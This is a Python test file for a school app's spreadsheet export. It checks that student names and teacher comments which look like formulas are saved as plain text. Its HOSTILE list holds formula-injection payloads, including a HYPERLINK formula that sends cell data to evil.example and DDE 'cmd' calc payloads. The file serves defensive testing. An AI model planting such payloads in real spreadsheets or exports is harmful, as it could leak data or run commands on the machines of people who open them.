"""No formula injection in what we export (issue 9, finding 8).

A student's name or a teacher's comment that begins like a formula (=HYPERLINK(...), +, -, @,
a tab or a line break, also after spaces) is written as text: the cell shows it as typed, and
the saved XML carries no <f> element for it.
"""

from __future__ import annotations

import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from schools.exports import workbook_text_only
from schools.imports import import_template
from schools.models import Enrolment, Subject
from transcripts.exports import score_sheet_export
from transcripts.models import SubjectTermScores

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
        )


@pytest.fixture
def hostile_class(secondary_class):
    """8A with formula-like names on its first students and comments in Toán."""
    toan = Subject.objects.get(code="toan")
    enrolments = list(
        Enrolment.objects.filter(school_class=secondary_class).select_related("student").order_by("number")
    )
    for enrolment, text in zip(enrolments, HOSTILE[:4], strict=False):
        enrolment.student.full_name = text
        enrolment.student.save(update_fields=["full_name"])
    for enrolment, text in zip(enrolments, HOSTILE[3:], strict=False):
        SubjectTermScores.objects.create(
            enrolment=enrolment, subject=toan, term=1, regular_1=Decimal(7), comment=text
        )
    return secondary_class


def test_a_name_or_comment_that_looks_like_a_formula_is_exported_as_text(school, hostile_class):
    data = score_sheet_export(school_class=hostile_class, term=1, school=school)

    xml = _sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml
    assert "HYPERLINK" in xml  # written, as text
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Toán"]
    cells = [cell for row in sheet.iter_rows(min_row=5) for cell in row if isinstance(cell.value, str)]
    values = {cell.value for cell in cells}
    for text in HOSTILE:
        assert text in values, text
    for cell in cells:
        if cell.value in HOSTILE:
            assert cell.data_type == "s", cell.value
            assert cell.quotePrefix, cell.value


def test_ordinary_text_and_scores_keep_their_types(school, hostile_class):
    sheet = openpyxl.load_workbook(
        io.BytesIO(score_sheet_export(school_class=hostile_class, term=1, school=school))
    )["Toán"]
    fifth = [cell for cell in sheet[9]]  # the fifth row of students: untouched
    assert not any(cell.quotePrefix for cell in fifth if cell.value is not None)
    first = sheet[5]
    assert first[3].value == 7 and first[3].data_type == "n"


@pytest.mark.parametrize("text", HOSTILE)
def test_workbook_text_only_types_every_formula_like_value_as_a_string(text):
    workbook = openpyxl.Workbook()
    workbook.active.append([text, "Nguyễn Văn An", "= 1", "a=b"])
    workbook_text_only(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)

    xml = _sheet_xml(buffer.getvalue())
    assert not re.search(r"<f[ >]", xml)
    saved = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert [cell.value for cell in saved[1]] == [text, "Nguyễn Văn An", "= 1", "a=b"]
    assert [cell.quotePrefix for cell in saved[1]] == [True, False, True, False]


def test_the_import_template_has_no_formula_cells():
    assert not re.search(r"<f[ >]", _sheet_xml(import_template()))
